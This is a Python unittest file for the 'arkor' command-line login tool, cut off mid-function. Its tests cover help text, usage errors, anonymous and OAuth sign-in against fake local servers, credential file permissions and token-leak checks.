"""Tests for arkor_cli, against a real HTTP server on loopback.

Run with nothing installed::

    python3 -m unittest

Every test gets a temporary HOME (and USERPROFILE) and a fresh fake
cloud-api (fake_cloud.py) on 127.0.0.1. The bulk calls ``main([...])`` in
process; real subprocesses are used where the process boundary is the
point: pipes and flushing, signals, ``python -m``, terminals (a pty), and
other interpreters.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import re
import select
import shutil
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import time
import unittest
from collections.abc import Iterator
from typing import Any, Callable
from unittest import mock
from urllib.parse import parse_qs, urlencode, urlsplit

import arkor_cli
from fake_cloud import FIXTURES, TEST_CA, Answer, FakeAuth0, FakeCloudApi, browse

HERE = os.path.dirname(os.path.abspath(__file__))
MODULE = os.path.join(HERE, "arkor_cli.py")
POSIX = os.name == "posix"

# The exact texts a user sees, spelled out here rather than read from the
# module: a test must fail if a message drifts from the contract.
NOT_SIGNED_IN = "Not signed in. Run `arkor login` or `arkor login --anonymous`.\n"
NUDGE = (
    "Anonymous sessions aren't guaranteed to persist \u2014 sign in with `arkor login --oauth`"
    " to tie future work to your Arkor Cloud account.\n"
)
COPIED_FIX = f"Replace {MODULE} with the latest arkor_cli.py."
OAUTH_CONFIG = {
    "auth0Domain": "tenant.example.auth0.com",
    "clientId": "client-123",
    "audience": "https://api.arkor.ai",
    "callbackPorts": [52521, 52522],
}


def anon_output(anonymous_id: str, path: str, org: str) -> str:
    return (
        f"Anonymous id: {anonymous_id}\n"
        "This id is how Arkor Cloud recognises this client across sessions."
        f" Keep `{path}` to stay signed in as the same anonymous identity.\n"
        f"Signed in anonymously (personal org: {org}).\n"
    )


def send_in_pieces(sock: socket.socket, data: bytes, pieces: int) -> None:
    """Send ``data`` in about ``pieces`` parts, with a pause between them."""
    step = max(1, len(data) // pieces)
    for start in range(0, len(data), step):
        sock.sendall(data[start : start + step])
        if pieces > 1:
            time.sleep(0.001)


def reset_on_close(sock: socket.socket) -> None:
    """Make closing ``sock`` send a RST instead of a FIN (SO_LINGER 0)."""
    import struct

    linger = struct.pack("hh" if os.name == "nt" else "ii", 1, 0)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)


def free_port() -> int:
    """A port on which nothing listens (bound, then released)."""
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


class Case(unittest.TestCase):
    """A temporary home, a running fake cloud-api, and ways to run arkor."""

    def setUp(self) -> None:
        self.home = tempfile.mkdtemp(prefix="arkor-home-")
        self.addCleanup(shutil.rmtree, self.home, True)
        self.arkor_dir = os.path.join(self.home, ".arkor")
        self.creds = os.path.join(self.arkor_dir, "credentials.json")
        self.cloud = FakeCloudApi().start()
        self.addCleanup(self.cloud.stop)
        self.secrets: list[str] = []

    def tearDown(self) -> None:
        # No token may ever reach the terminal: checked on every run's output.
        for text in getattr(self, "_outputs", []):
            for token in list(self.cloud.tokens) + self.secrets:
                self.assertNotIn(token, text, "a token leaked into the output")

    # -- environments ----------------------------------------------------

    def env(self, **extra: str | None) -> dict[str, str]:
        """A minimal environment built from nothing (not inherited)."""
        env = {
            "HOME": self.home,
            "USERPROFILE": self.home,
            "PATH": os.environ.get("PATH", os.defpath),
            "ARKOR_CLOUD_API_URL": self.cloud.url,
        }
        if "SYSTEMROOT" in os.environ:  # Windows sockets need it
            env["SYSTEMROOT"] = os.environ["SYSTEMROOT"]
        for key, value in extra.items():
            if value is None:
                env.pop(key, None)
            else:
                env[key] = value
        return env

    def _record(self, *texts: str) -> None:
        self.__dict__.setdefault("_outputs", []).extend(texts)

    # -- ways to run -------------------------------------------------------

    def run_main(self, *argv: str, stdin: str = "", **env: str | None) -> tuple[int, str, str]:
        """``main([...])`` in this process, with its own environment and streams."""
        out, err = io.StringIO(), io.StringIO()
        with contextlib.ExitStack() as stack:
            stack.enter_context(mock.patch.dict(os.environ, self.env(**env), clear=True))
            stack.enter_context(mock.patch.object(sys, "stdin", io.StringIO(stdin)))
            stack.enter_context(contextlib.redirect_stdout(out))
            stack.enter_context(contextlib.redirect_stderr(err))
            code = arkor_cli.main(list(argv))
        self._record(out.getvalue(), err.getvalue())
        return code, out.getvalue(), err.getvalue()

    def run_cli(
        self, *argv: str, stdin: str | None = "", timeout: float = 30, **env: str | None
    ) -> subprocess.CompletedProcess[str]:
        """``python3 arkor_cli.py ...`` as a real process."""
        proc = subprocess.run(
            [sys.executable, MODULE, *argv],
            input=stdin,
            stdin=None if stdin is not None else subprocess.DEVNULL,
            capture_output=True,
            text=True,
            env=self.env(**env),
            timeout=timeout,
            check=False,
        )
        self._record(proc.stdout, proc.stderr)
        self.assertNotIn("Traceback", proc.stderr)
        return proc

    def spawn(self, *argv: str, **env: str | None) -> subprocess.Popen[str]:
        """``python3 arkor_cli.py ...`` started, not waited for (stdin closed),
        in an environment of its own: no PYTHONUNBUFFERED, so a missing
        flush shows."""
        proc = subprocess.Popen(
            [sys.executable, MODULE, *argv],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            env=self.env(**env),
        )
        self.addCleanup(lambda: proc.poll() is None and proc.kill())
        return proc

    def wait_until(self, condition: Callable[[], object], timeout: float = 20) -> None:
        deadline = time.monotonic() + timeout
        while not condition():
            if time.monotonic() > deadline:
                self.fail("waited in vain")
            time.sleep(0.02)

    def run_tty(
        self, argv: list[str], answers: list[str | Callable[[str], str]], **env: str | None
    ) -> tuple[int, str, str]:
        """Run arkor on a pseudo-terminal (stdin and stdout), typing ``answers``.

        Each answer is typed once the output so far ends with a prompt
        (``: `` or ``] ``), as a person would; an answer may be a function of
        what the terminal shows so far. Returns status, what the terminal
        showed, and stderr (kept on a pipe to tell it apart).
        """
        import pty

        master, slave = pty.openpty()
        proc = subprocess.Popen(
            [sys.executable, MODULE, *argv],
            stdin=slave,
            stdout=slave,
            stderr=subprocess.PIPE,
            env=self.env(**env),
            close_fds=True,
        )
        os.close(slave)
        shown = b""
        pending = list(answers)
        deadline = time.monotonic() + 30
        try:
            while time.monotonic() < deadline:
                ready, _, _ = select.select([master], [], [], 0.1)
                if ready:
                    try:
                        chunk = os.read(master, 4096)
                    except OSError:  # EIO: the child closed the terminal
                        break
                    if not chunk:
                        break
                    shown += chunk
                    if pending and shown.rstrip().endswith((b":", b"]")):
                        answer = pending.pop(0)
                        if callable(answer):
                            answer = answer(shown.decode().replace("\r\n", "\n"))
                        os.write(master, answer.encode() + b"\n")
                elif proc.poll() is not None:
                    break
            code = proc.wait(timeout=10)
            err = proc.stderr.read().decode() if proc.stderr else ""
        finally:
            if proc.poll() is None:
                proc.kill()
                proc.wait()
            if proc.stderr:
                proc.stderr.close()
            os.close(master)
        text = shown.decode().replace("\r\n", "\n")
        self._record(text, err)
        return code, text, err

    # -- the credentials file ----------------------------------------------

    def write_creds(self, data: Any) -> bytes:
        os.makedirs(self.arkor_dir, mode=0o700, exist_ok=True)
        raw = data if isinstance(data, bytes) else (json.dumps(data, indent=2) + "\n").encode()
        with open(self.creds, "wb") as f:
            f.write(raw)
        return raw

    def read_creds(self) -> Any:
        with open(self.creds, encoding="utf-8") as f:
            return json.load(f)

    def creds_bytes(self) -> bytes:
        with open(self.creds, "rb") as f:
            return f.read()

    def sign_in_anon(self, token: str = "anon-token-stored", base: str | None = None) -> dict[str, str]:
        self.cloud.add_token(token)
        data = {
            "mode": "anon",
            "token": token,
            "anonymousId": "anon-stored",
            "arkorCloudApiUrl": base or self.cloud.url,
            "orgSlug": "stored-org",
        }
        self.write_creds(data)
        return data

    def auth0_creds(self, mode: str = "auth0", token: str = "access-token-stored") -> dict[str, Any]:
        return {
            "mode": mode,
            "accessToken": token,
            "refreshToken": "refresh-token-stored",
            "expiresAt": int(time.time()) + 3600,
            # Nothing listens there: what reaches Auth0 is refused at once.
            "auth0Domain": f"127.0.0.1:{free_port()}",
            "audience": "https://api.arkor.ai",
            "clientId": "client-123",
            "arkorCloudApiUrl": self.cloud.url,
        }

    def leftovers(self) -> list[str]:
        """Files in ~/.arkor other than the credentials and their lock (temp files, say)."""
        if not os.path.isdir(self.arkor_dir):
            return []
        return sorted(n for n in os.listdir(self.arkor_dir) if n not in ("credentials.json", "credentials.json.lock"))


# ---------------------------------------------------------------------------
# The command line itself
# ---------------------------------------------------------------------------


class CommandLineTest(Case):
    def test_version(self) -> None:
        code, out, _ = self.run_main("--version")
        self.assertEqual((code, out), (0, f"arkor {arkor_cli.__version__}\n"))

    def test_help_on_every_command(self) -> None:
        for command in (None, "login", "logout", "whoami"):
            name = [command] if command else []
            # Help alone is answered before argparse; after other options, or
            # with them after it, by argparse's -h. Both print the same text.
            for argv in (
                [*name, "-h"],
                [*name, "--help"],
                ["-h", *name],
                [*name, "--bogus", "-h"] if command else ["--help", "--bogus"],
            ):
                with self.subTest(argv=argv):
                    code, out, err = self.run_main(*argv)
                    self.assertEqual((code, err), (0, ""))
                    self.assertEqual(out, arkor_cli._HELP[command if argv[0] != "-h" else None])
        self.assertEqual(self.cloud.requests, [])
        self.assertFalse(os.path.exists(self.arkor_dir))

    def test_usage_errors_exit_2(self) -> None:
        # An error names the command it belongs to and shows that command's
        # usage, as `git` and `gh` do, then one line saying what is wrong.
        cases = {
            ("--bogus",): (None, "arkor: error: unrecognized arguments: --bogus"),
            ("-x", "whoami"): (None, "arkor: error: unrecognized arguments: -x"),  # before the command: not its error
            ("whoami", "whoami"): ("whoami", "arkor whoami: error: unrecognized arguments: whoami"),
            ("frobnicate",): (None, "arkor: error: argument <command>: invalid choice: 'frobnicate'"),
            ("login", "--bogus"): ("login", "arkor login: error: unrecognized arguments: --bogus"),
            ("login", "--timeout", "0"): ("login", "arkor login: error: argument --timeout: not a positive"),
            ("logout", "--yes", "now"): ("logout", "arkor logout: error: unrecognized arguments: now"),
            ("whoami", "--jsn"): ("whoami", "arkor whoami: error: unrecognized arguments: --jsn"),
        }
        for argv, (command, error) in cases.items():
            with self.subTest(argv=argv):
                code, out, err = self.run_main(*argv)
                self.assertEqual((code, out), (2, ""))
                usage, message = err.rsplit("\n", 2)[:2] if err.endswith("\n") else (err, "")
                self.assertEqual(usage, "usage: " + arkor_cli._USAGE[command])
                self.assertTrue(message.startswith(error), err)
        self.assertEqual(self.cloud.requests, [])

    def test_help_lists_what_the_parser_takes(self) -> None:
        # The help is written by hand, so it is held to the parser: each
        # option a command takes is on its options list (with its metavar),
        # each one listed or in the usage is taken, and the commands listed
        # are the commands there are.
        parser, commands = arkor_cli._parser()
        self.assertEqual(list(commands), list(arkor_cli._SUMMARY))
        for command, each in ((None, parser), *commands.items()):
            with self.subTest(command=command):
                text = arkor_cli._HELP[command]
                self.assertTrue(text.startswith("usage: " + arkor_cli._USAGE[command] + "\n\n"))
                taken = {
                    option: action.metavar
                    for action in each._actions  # the parser's own list of what it takes
                    for option in action.option_strings
                }
                listed = {}
                for line in text.split("\noptions:\n", 1)[1].split("\n\n", 1)[0].splitlines():
                    names = re.split(r"\s{2,}", line.strip())[0]
                    for name in names.split(", "):
                        option, _, metavar = name.partition(" ")
                        listed[option] = metavar or None
                self.assertEqual(listed, taken)
                usage_options = set(re.findall(r"(?<![\w-])-{1,2}[a-z][\w-]*", arkor_cli._USAGE[command]))
                self.assertLessEqual(usage_options, set(taken))
                self.assertIn(len(usage_options), range(1, len(taken) + 1))
                for line in text.splitlines():
                    self.assertLessEqual(len(line), 79, line)
        listed_commands = arkor_cli._HELP[None].split("\ncommands:\n", 1)[1].split("\n\n", 1)[0]
        self.assertEqual([line.split()[0] for line in listed_commands.splitlines()], list(commands))

    @unittest.skipUnless(POSIX, "closes a descriptor with the shell")
    def test_a_closed_stdout_or_stderr_is_no_error(self) -> None:
        # `arkor whoami >&-` (cron, daemons): Python starts with no stdout, or
        # one that fails every write; the command still ends with its status.
        cases = [
            (["whoami"], ">&-", 0),
            (["--help"], ">&-", 0),
            (["login", "--oauth", "-h"], ">&-", 0),  # argparse's -h
            (["--version"], ">&-", 0),
            ([], "2>&-", 2),
            (["--bogus"], "2>&-", 2),
        ]
        for argv, closing, status in cases:
            with self.subTest(argv=argv, closing=closing):
                shell = ["/bin/sh", "-c", f'exec "$@" {closing}', "sh", sys.executable, MODULE, *argv]
                proc = subprocess.run(shell, capture_output=True, text=True, env=self.env(), timeout=30, check=False)
                self.assertEqual(proc.returncode, status, proc.stdout + proc.stderr)
                self.assertNotIn("Traceback", proc.stdout + proc.stderr)
                self.assertNotIn("Error", proc.stdout + proc.stderr)

    def test_no_command_shows_the_help_on_stderr(self) -> None:
        code, out, err = self.run_main()
        self.assertEqual((code, out, err), (2, "", arkor_cli._HELP[None]))

    def test_main_returns_instead_of_exiting(self) -> None:
        # A caller embedding main() gets a status back, never a SystemExit.
        for argv in (["--version"], ["--bogus"], ["whoami"]):
            with self.subTest(argv=argv):
                code, _, _ = self.run_main(*argv)
                self.assertIsInstance(code, int)

    def test_three_ways_to_run(self) -> None:
        env = self.env()
        for cmd in (
            [sys.executable, MODULE, "--version"],
            [sys.executable, "-m", "arkor_cli", "--version"],
        ):
            with self.subTest(cmd=cmd):
                proc = subprocess.run(cmd, capture_output=True, text=True, env=env, cwd=HERE, timeout=30, check=False)
                self.assertEqual((proc.returncode, proc.stdout), (0, f"arkor {arkor_cli.__version__}\n"))

    def test_copied_file_runs_isolated(self) -> None:
        # The one file, alone in an empty folder, under -I (no site, no env).
        folder = tempfile.mkdtemp()
        self.addCleanup(shutil.rmtree, folder, True)
        shutil.copy(MODULE, folder)
        proc = subprocess.run(
            [sys.executable, "-I", os.path.join(folder, "arkor_cli.py"), "whoami"],
            capture_output=True,
            text=True,
            env=self.env(),
            cwd=folder,
            timeout=30,
            check=False,
        )
        self.assertEqual((proc.returncode, proc.stdout, proc.stderr), (0, NOT_SIGNED_IN, ""))

    @unittest.skipUnless(hasattr(sys, "stdlib_module_names"), "Python 3.10+ lists the standard library")
    def test_standard_library_only(self) -> None:
        # Anywhere in the file, type-checking blocks included.
        import ast

        with open(MODULE, encoding="utf-8") as f:
            tree = ast.parse(f.read())
        found = set()
        for node in ast.walk(tree):
            if isinstance(node, ast.Import):
                found.update(alias.name.split(".")[0] for alias in node.names)
            elif isinstance(node, ast.ImportFrom) and node.level == 0 and node.module:
                found.add(node.module.split(".")[0])
        stdlib = set(getattr(sys, "stdlib_module_names", ()))  # 3.10+, as the decorator says
        self.assertEqual(found - stdlib - {"__future__"}, set())

    def test_internal_error_is_one_line(self) -> None:
        # A bug must still end in one line and status 1, not a traceback.
        with mock.patch.object(arkor_cli, "_read_credentials", side_effect=RuntimeError("secret-ish")):
            code, _out, err = self.run_main("whoami")
        self.assertEqual(code, 1)
        self.assertEqual(err, "Internal error (RuntimeError). Set ARKOR_DEBUG=1 to see the traceback, and report it.\n")
        self.assertNotIn("secret-ish", err)

    def test_debug_adds_traceback(self) -> None:
        self.write_creds(b"{not json")
        code, _, err = self.run_main("whoami", ARKOR_DEBUG="1")
        self.assertEqual(code, 1)
        self.assertIn("Traceback", err)
        code, _, err = self.run_main("whoami")
        self.assertNotIn("Traceback", err)

    @unittest.skipUnless(POSIX, "SIGINT delivery to a child is POSIX here")
    def test_ctrl_c_exits_130_quietly(self) -> None:
        self.cloud.script("POST", "/v1/auth/anonymous", Answer(201, {}, delay=30))
        proc = self.spawn("login", "--anonymous")
        self.wait_until(lambda: self.cloud.seen("POST", "/v1/auth/anonymous"), 10)
        proc.send_signal(signal.SIGINT)
        _out, err = proc.communicate(timeout=10)
        self.assertEqual(proc.returncode, 130)
        self.assertEqual(err, "Interrupted.\n")
        self.assertFalse(os.path.exists(self.creds))
        self.assertEqual(self.leftovers(), [])


# ---------------------------------------------------------------------------
# login
# ---------------------------------------------------------------------------


class LoginAnonymousTest(Case):
    def test_anonymous_flag(self) -> None:
        code, out, err = self.run_main("login", "--anonymous")
        self.assertEqual(code, 0)
        self.assertEqual(err, "")  # no upgrade nudge on this path
        self.assertEqual(out, anon_output("anon-0001", self.creds, "anon-org-0001"))
        # No config fetch: exactly one request, and what it carried.
        (request,) = self.cloud.requests
        self.assertEqual((request.method, request.path), ("POST", "/v1/auth/anonymous"))
        self.assertEqual(request.json(), {"kind": "cli"})
        self.assertEqual(request.headers["content-type"], "application/json")
        self.assertEqual(request.headers["accept"], "application/json")
        self.assertEqual(request.headers["x-arkor-client"], f"arkor/{arkor_cli.__version__}")
        self.assertNotIn("authorization", request.headers)
        (token,) = self.cloud.tokens
        self.assertEqual(
            self.read_creds(),
            {
                "mode": "anon",
                "token": token,
                "anonymousId": "anon-0001",
                "arkorCloudApiUrl": self.cloud.url,
                "orgSlug": "anon-org-0001",
            },
        )
        self.assertEqual(self.leftovers(), [])

    @unittest.skipUnless(POSIX, "POSIX permission bits")
    def test_file_0600_and_directory_0700(self) -> None:
        old = os.umask(0)  # even with a permissive umask
        try:
            self.run_main("login", "--anonymous")
        finally:
            os.umask(old)
        self.assertEqual(stat.S_IMODE(os.stat(self.creds).st_mode), 0o600)
        self.assertEqual(stat.S_IMODE(os.stat(self.arkor_dir).st_mode), 0o700)

    def test_each_anonymous_login_is_a_new_identity(self) -> None:
        self.sign_in_anon()
        self.run_main("login", "--anonymous")
        first = self.read_creds()
        self.run_main("login", "--anonymous")
        second = self.read_creds()
        self.assertEqual(first["anonymousId"], "anon-0001")
        self.assertEqual(second["anonymousId"], "anon-0002")
        self.assertNotEqual(first["token"], second["token"])

    def test_both_flags_refused_before_anything_is_sent(self) -> None:
        code, out, err = self.run_main("login", "--oauth", "--anonymous")
        self.assertEqual((code, out, err), (1, "", "Pick one of --oauth / --anonymous, not both.\n"))
        self.assertEqual(self.cloud.requests, [])
        self.assertFalse(os.path.exists(self.arkor_dir))

    def test_not_configured_continues_anonymously(self) -> None:
        code, out, err = self.run_main("login")
        self.assertEqual(code, 0)
        self.assertEqual(
            out,
            "OAuth is not configured. Continuing with an anonymous session.\n"
            + anon_output("anon-0001", self.creds, "anon-org-0001"),
        )
        self.assertEqual(err, "")  # no nudge towards an OAuth that is not there
        self.assertEqual(
            [(r.method, r.path) for r in self.cloud.requests],
            [("GET", "/v1/auth/cli/config"), ("POST", "/v1/auth/anonymous")],
        )
        self.assertEqual(self.read_creds()["mode"], "anon")

    def test_partly_configured_is_not_configured(self) -> None:
        for missing in ("auth0Domain", "clientId", "audience"):
            with self.subTest(missing=missing):
                self.cloud.config = dict(OAUTH_CONFIG, **{missing: ""})
                code, out, _ = self.run_main("login")
                self.assertEqual(code, 0)
                self.assertTrue(out.startswith("OAuth is not configured. Continuing"))

    def test_oauth_flag_when_not_configured(self) -> None:
        self.sign_in_anon()
        before = self.creds_bytes()
        code, out, err = self.run_main("login", "--oauth")
        self.assertEqual(code, 1)
        self.assertEqual(
            err, "OAuth is not configured for this deployment. Re-run without --oauth or pass --anonymous.\n"
        )
        self.assertEqual(out, "")
        self.assertEqual([r.path for r in self.cloud.requests], ["/v1/auth/cli/config"])
        self.assertEqual(self.creds_bytes(), before)

    def test_oauth_in_ci_refused_without_a_request(self) -> None:
        code, _out, err = self.run_main("login", "--oauth", CI="true")
        self.assertEqual(code, 1)
        self.assertEqual(
            err, "--oauth needs a browser callback that CI runners can't complete. Use --anonymous in CI.\n"
        )
        self.assertEqual(self.cloud.requests, [])
        self.assertFalse(os.path.exists(self.creds))

    def test_no_tty_takes_anonymous_and_nudges(self) -> None:
        self.cloud.config = OAUTH_CONFIG
        code, out, err = self.run_main("login")
        self.assertEqual(code, 0)
        self.assertEqual(out, anon_output("anon-0001", self.creds, "anon-org-0001"))
        self.assertEqual(err, NUDGE)

    def test_trailing_slash_of_base_url_is_stripped(self) -> None:
        code, _, _ = self.run_main("login", "--anonymous", ARKOR_CLOUD_API_URL=self.cloud.url + "/")
        self.assertEqual(code, 0)
        self.assertEqual(self.cloud.requests[0].path, "/v1/auth/anonymous")
        self.assertEqual(self.read_creds()["arkorCloudApiUrl"], self.cloud.url)

    def test_empty_base_url_fails_naming_the_variable(self) -> None:
        code, _out, err = self.run_main("login", "--anonymous", ARKOR_CLOUD_API_URL="")
        self.assertEqual(code, 1)
        self.assertEqual(err, "ARKOR_CLOUD_API_URL is not an http(s) URL: ''.\n")
        self.assertFalse(os.path.exists(self.creds))

    def test_bad_base_urls(self) -> None:
        for url in ("ftp://example.com", "not a url", "http://", "http://127.0.0.1:notaport"):
            with self.subTest(url=url):
                code, _, err = self.run_main("login", "--anonymous", ARKOR_CLOUD_API_URL=url)
                self.assertEqual(code, 1)
                self.assertTrue(err.startswith("ARKOR_CLOUD_API_URL is not an http(s) URL"), err)

    def test_failed_anonymous_login_keeps_the_old_file(self) -> None:
        self.sign_in_anon()
        before = self.creds_bytes()
        cases = {
            "server error": Answer(500, body=b"upstream exploded"),
            "html": Answer(200, body=b"<html><body>Sign in</body></html>", headers={"Content-Type": "text/html"}),
            "garbage": Answer(200, body=b"\x00\xff\xfe garbage"),
            "a list": Answer(200, json_body=[1, 2]),
            "no token": Answer(200, {"anonymousId": "a", "personalOrg": {"slug": "s"}}),
            "token not a string": Answer(200, {"token": 7, "anonymousId": "a", "personalOrg": {"slug": "s"}}),
            "no org": Answer(200, {"token": "t-x", "anonymousId": "a"}),
            "org without slug": Answer(200, {"token": "t-x", "anonymousId": "a", "personalOrg": {"id": "1"}}),
        }
        expected = {
            "server error": "POST /v1/auth/anonymous failed (500): upstream exploded\n",
            "html": "Unexpected answer from POST /v1/auth/anonymous (200): not JSON:"
            " <html><body>Sign in</body></html>\n",
            "a list": "Unexpected answer from POST /v1/auth/anonymous (200): not a JSON object.\n",
            "no token": "Unexpected answer from POST /v1/auth/anonymous (200): no token.\n",
            "token not a string": "Unexpected answer from POST /v1/auth/anonymous (200): no token.\n",
            "no org": "Unexpected answer from POST /v1/auth/anonymous personalOrg (200): not a JSON object.\n",
            "org without slug": "Unexpected answer from POST /v1/auth/anonymous (200): no slug.\n",
        }
        self.secrets.append("t-x")
        for name, answer in cases.items():
            with self.subTest(name):
                self.cloud.script("POST", "/v1/auth/anonymous", answer)
                code, out, err = self.run_main("login", "--anonymous")
                self.assertEqual(code, 1)
                self.assertEqual(out, "")
                if name in expected:
                    self.assertEqual(err, expected[name])
                else:
                    self.assertTrue(err.startswith("Unexpected answer from POST /v1/auth/anonymous (200): not JSON"))
                self.assertEqual(self.creds_bytes(), before)
                self.assertEqual(self.leftovers(), [])

    def test_bad_config_answers(self) -> None:
        cases = {
            Answer(500, body=b""): "GET /v1/auth/cli/config failed (500): (empty body)\n",
            Answer(200, body=b"<!doctype html>"): "Unexpected answer from GET /v1/auth/cli/config (200): not JSON:"
            " <!doctype html>\n",
            Answer(
                200, json_body="config"
            ): "Unexpected answer from GET /v1/auth/cli/config (200): not a JSON object.\n",
            Answer(200, dict(OAUTH_CONFIG, auth0Domain=5)): "Unexpected answer from GET /v1/auth/cli/config (200):"
            " auth0Domain is not a string.\n",
            Answer(200, dict(OAUTH_CONFIG, callbackPorts="52521")): "Unexpected answer from GET"
            " /v1/auth/cli/config (200): callbackPorts is not a list of ports.\n",
            Answer(200, dict(OAUTH_CONFIG, callbackPorts=[70000])): "Unexpected answer from GET"
            " /v1/auth/cli/config (200): callbackPorts is not a list of ports.\n",
        }
        for answer, message in cases.items():
            with self.subTest(message):
                self.cloud.script("GET", "/v1/auth/cli/config", answer)
                code, out, err = self.run_main("login")
                self.assertEqual((code, out, err), (1, "", message))
        self.assertEqual(self.cloud.seen("POST"), [])
        self.assertFalse(os.path.exists(self.arkor_dir))

    def test_unsupported_sdk_on_login(self) -> None:
        self.cloud.script("POST", "/v1/auth/anonymous", Answer(426, body=b""))
        code, _out, err = self.run_main("login", "--anonymous")
        self.assertEqual(code, 1)
        self.assertEqual(err, f"Arkor SDK is no longer supported by the cloud API. {COPIED_FIX}\n")
        self.assertFalse(os.path.exists(self.creds))

    def test_deprecation_latest_wins(self) -> None:
        self.cloud.script(
            "GET",
            "/v1/auth/cli/config",
            Answer(200, self.cloud.config, headers={"Deprecation": "true", "Warning": '299 - "first"'}),
        )
        minted = self.cloud.mint_anonymous()
        self.cloud.script(
            "POST",
            "/v1/auth/anonymous",
            Answer(201, minted, headers={"Deprecation": "true", "Warning": '299 - "second"'}),
        )
        code, _out, err = self.run_main("login")
        self.assertEqual(code, 0)
        self.assertEqual(err, f"second (current: {arkor_cli.__version__}). {COPIED_FIX}\n")

    @unittest.skipUnless(POSIX, "needs a pty")
    def test_picker_enter_takes_anonymous(self) -> None:
        self.cloud.config = OAUTH_CONFIG
        code, shown, err = self.run_tty(["login"], [""], NO_COLOR="1")
        self.assertEqual(code, 0)
        self.assertIn(
            "How would you like to sign in?\n  1) OAuth (browser)  Sign in to your account\n"
            "  2) Anonymous        Throwaway token, no account\nChoose 1-2 [2]: ",
            shown,
        )
        self.assertIn(anon_output("anon-0001", self.creds, "anon-org-0001"), shown)
        self.assertEqual(err, NUDGE)
        self.assertEqual(self.read_creds()["mode"], "anon")

    @unittest.skipUnless(POSIX, "needs a pty")
    def test_picker_choices(self) -> None:
        self.cloud.config = OAUTH_CONFIG
        code, _shown, err = self.run_tty(["login"], ["7", "anonymous"])
        self.assertEqual(code, 0)
        self.assertIn("Please answer a number from 1 to 2.", err)
        self.assertTrue(err.endswith(NUDGE))

    @unittest.skipUnless(POSIX, "needs a pty")
    def test_no_picker_in_ci_even_on_a_terminal(self) -> None:
        self.cloud.config = OAUTH_CONFIG
        code, shown, err = self.run_tty(["login"], [], CI="1")
        self.assertEqual(code, 0)
        self.assertNotIn("How would you like to sign in?", shown)
        self.assertEqual(err, NUDGE)

    def test_progress_line_is_flushed_through_a_pipe(self) -> None:
        # The first line must reach a pipe while the command still waits.
        self.cloud.script("POST", "/v1/auth/anonymous", Answer(201, self.cloud.mint_anonymous(), delay=30))
        proc = subprocess.Popen(
            [sys.executable, MODULE, "login"],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            env=self.env(),  # no PYTHONUNBUFFERED: a missing flush must show
        )
        try:
            assert proc.stdout is not None
            ready, _, _ = select.select([proc.stdout], [], [], 15) if POSIX else ([proc.stdout], [], [])
            self.assertTrue(ready, "no output while waiting")
            line = proc.stdout.readline().decode()
            self.assertEqual(line, "OAuth is not configured. Continuing with an anonymous session.\n")
            self.assertIsNone(proc.poll())
        finally:
            proc.kill()
            proc.communicate()


# ---------------------------------------------------------------------------
# login: OAuth 2.0 Authorization Code + PKCE
# ---------------------------------------------------------------------------


def fake_browser(linger: float = 0) -> str:
    """A BROWSER command that fetches the page and follows it to the callback."""
    here = os.path.join(HERE, "fake_cloud.py")
    return f'"{sys.executable}" "{here}" browse %s' + (f" {linger:g}" if linger else "")


class OAuthCase(Case):
    def setUp(self) -> None:
        super().setUp()
        self.auth0 = FakeAuth0(self.cloud).start()
        self.addCleanup(self.auth0.stop)
        self.ports = [free_port(), free_port()]
        self.cloud.config = self.auth0.cli_config(self.ports)
        self.browser_log = os.path.join(self.home, "browser.log")

    def tearDown(self) -> None:
        self.secrets.extend(self.auth0.handed_out())
        # Reap the fake browsers that in-process logins started.
        while arkor_cli._BROWSER_PROCESSES:
            child = arkor_cli._BROWSER_PROCESSES.pop()
            try:
                child.wait(timeout=15)
            except subprocess.TimeoutExpired:
                child.kill()
                child.wait()
        super().tearDown()

    def env(self, **extra: str | None) -> dict[str, str]:
        base: dict[str, str | None] = {"SSL_CERT_FILE": TEST_CA, "FAKE_BROWSER_LOG": self.browser_log}
        base.update(extra)
        return super().env(**base)

    def browser_saw(self, timeout: float = 15) -> tuple[int, str]:
        """What the fake browser ended on: the callback's status and page."""
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            if os.path.exists(self.browser_log):
                with open(self.browser_log, encoding="utf-8") as f:
                    status, _, page = f.read().partition("\n")
                if status:
                    return int(status), page
            time.sleep(0.05)
        self.fail("the browser never reported")

    def sign_in_oauth(self, expires_in: int = 3600, mode: str = "auth0") -> dict[str, Any]:
        """Credentials as a sign-in with the fake Auth0 leaves them, whose
        access token expires in ``expires_in`` seconds."""
        tokens = self.auth0._issue(refresh=True)  # registered with the fake cloud-api too
        data = {
            "mode": mode,
            "accessToken": tokens["access_token"],
            "refreshToken": tokens["refresh_token"],
            "expiresAt": int(time.time()) + expires_in,
            "auth0Domain": self.auth0.domain,
            "audience": self.auth0.audience,
            "clientId": self.auth0.client_id,
            "arkorCloudApiUrl": self.cloud.url,
        }
        self.write_creds(data)
        return data

    def forget_browser(self) -> None:
        if os.path.exists(self.browser_log):
            os.remove(self.browser_log)

    def start_login(self, *extra: str, **env: str | None) -> tuple[subprocess.Popen[str], str, dict[str, str]]:
        """``login --oauth --no-browser`` as a real process, read up to its
        ``Browser:`` line: the URL must arrive through a pipe while it waits."""
        proc = self.spawn("login", "--oauth", "--no-browser", *extra, **env)
        self.addCleanup(lambda: proc.poll() is None and proc.kill())
        assert proc.stdout is not None
        ready, _, _ = select.select([proc.stdout], [], [], 20)
        self.assertTrue(ready, "no Browser: line while the login waits")
        line = proc.stdout.readline()
        self.assertTrue(line.startswith("Browser: https://"), line)
        url = line[len("Browser: ") :].strip()
        return proc, url, {k: v[0] for k, v in parse_qs(urlsplit(url).query).items()}

    def finish(self, proc: subprocess.Popen[str]) -> tuple[int, str, str]:
        out, err = proc.communicate(timeout=30)
        self._record(out, err)
        self.assertNotIn("Traceback", err)
        return proc.returncode, out, err

    def callback(self, port: int, target: str, host: str | None = None) -> tuple[int, dict[str, str], bytes]:
        """A request to the loopback listener, as a browser would send it."""
        import http.client

        conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
        try:
            conn.request("GET", target, headers={"Host": host} if host else {})
            response = conn.getresponse()
